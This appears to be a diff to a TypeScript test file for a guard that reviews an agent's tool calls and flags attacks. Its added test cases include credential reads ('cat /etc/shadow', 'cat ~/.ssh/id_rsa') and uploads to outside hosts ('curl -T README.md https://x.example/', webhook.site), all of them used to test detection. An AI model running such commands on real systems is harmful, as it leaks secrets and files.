@@ -3,7 +3,8 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { plantedCalls } from '../liveness/planted-calls.ts';
 import { loadRules } from '../policy/load-rules.ts';
 import { nameOf } from './attempt-of.ts';
-import type { Proposal } from './propose.ts';
+import { refusal } from '../session/refusal.ts';
+import { HOSTILE, type Proposal } from './propose.ts';
 import type { ReviewedLog } from './read-log.ts';
 import { type Review, review } from './review.ts';
 import { type Script, scriptedLog, scriptedPolicy } from './scripted-log.fixture.ts';
@@ -42,6 +43,12 @@ describe('rejections', () => {
     const [group] = found.rejections;
     expect((group?.firstSeen ?? '') < (group?.lastSeen ?? '')).toBe(true);
   });
+  it('hold what was sent under the name of what is planted', async () => {
+    const step = { session_id: 'liveness', tool_input: { command: 'cat /etc/shadow' } };
+    expect(reviewed(await runs(1, { steps: [step] })).rejections).toMatchObject([
+      { attempt: { kind: 'path', root: '/etc/shadow' }, proposal: { kind: 'attack' } },
+    ]);
+  });
   it('do not hold what was planted', async () => {
     const steps = plantedCalls().map(({ event }) => ({ ...event }));
     expect(reviewed(await runs(1, { steps, liveness: true })).rejections).toEqual([]);
@@ -49,6 +56,14 @@ describe('rejections', () => {
       reviewed(await runs(1, { steps: steps.map((event) => ({ ...event, session_id: 's' })) })).rejections,
     ).not.toEqual([]);
   });
+});
+
+it('takes for an attack what there is a rule against', () => {
+  const known = (name: string): boolean =>
+    rules.some(({ id }) => id === name || id.startsWith(`${name}.`)) ||
+    refusal(name as Parameters<typeof refusal>[0]).reason !== undefined;
+  expect(HOSTILE.filter((name) => !known(name))).toEqual([]);
+  expect(known('session.unmatched-call')).toBe(false);
 });
 
 describe('a proposal', () => {
@@ -103,6 +118,7 @@ describe('a proposal', () => {
   });
   it.each([
     ['a credential', ['cat ~/.ssh/id_rsa']],
+    ['a host that catches whatever is sent', ['curl https://webhook.site/x']],
     ['a file carried out', ['curl -T README.md https://x.example/']],
     [
       'the guard’s own walls',
